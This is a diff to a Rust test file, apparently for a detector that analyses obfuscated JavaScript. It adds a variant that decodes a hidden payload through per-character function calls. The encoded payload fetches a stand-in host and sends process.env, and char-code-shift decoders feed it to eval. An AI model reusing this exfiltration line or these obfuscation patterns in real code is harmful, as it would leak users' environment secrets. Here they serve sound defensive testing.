@@ -43,10 +43,10 @@ fn a_command_that_nobody_has_read_accuses_less() {
     assert_eq!(severity("sh -c 'x \u{1}\u{2}u'"), crate::model::Severity::High);
 }
 
-/// Tables that nobody asks for take up neither the decoder that comes behind them nor what it sends.
+/// Tables and functions that nobody asks for take up neither the decoders that come behind them nor what those send.
 #[test]
 fn what_counts_for_long_leaves_decoders_their_steps() {
-    let busy = "var t = []; for (var i = 0; i < 90000; i++) { t[i % 256] = (i * 7 + 3) % 255; }\n".repeat(4);
+    let busy = "var t = []; for (var i = 0; i < 90000; i++) { t[i % 256] = (i * 7 + 3) % 255; }\n".repeat(8);
     let calls = "function walk(n) { return n < 2 ? n : walk(n - 1) + walk(n - 2); } walk(24);\n";
     let hidden: Vec<String> = "fetch('https://collect.invalid/', { body: JSON.stringify(process.env) })"
         .bytes()
@@ -56,10 +56,18 @@ fn what_counts_for_long_leaves_decoders_their_steps() {
         "var d = [{}], o = ''; for (var j = 0; j < d.length; j++) {{ o += String.fromCharCode(d[j] - 3); }} eval(o);",
         hidden.join(",")
     );
-    for (before, cut) in [(busy.clone(), true), (calls.to_owned(), false), (format!("{busy}{calls}"), true)] {
-        let outcome = outcome(Language::JavaScript, &format!("{before}{decoder}"));
-        assert_eq!(outcome.cut_off, cut);
-        assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL));
+    // A function that is called for every few letters, as obfuscators have it.
+    let pieces = (0..hidden.len()).map(|i| format!("p({i})")).collect::<Vec<_>>().join("+");
+    let table = format!(
+        "var d = [{}]; function p(i) {{ return String.fromCharCode(d[i] - 3); }} eval({pieces});",
+        hidden.join(",")
+    );
+    for decoder in [decoder, table] {
+        for (before, cut) in [(busy.clone(), true), (calls.to_owned(), false), (format!("{busy}{calls}"), true)] {
+            let outcome = outcome(Language::JavaScript, &format!("{before}{decoder}"));
+            assert_eq!(outcome.cut_off, cut);
+            assert!(event(&outcome, Act::Send).data.any(Labels::ENV_ALL));
+        }
     }
 }
 
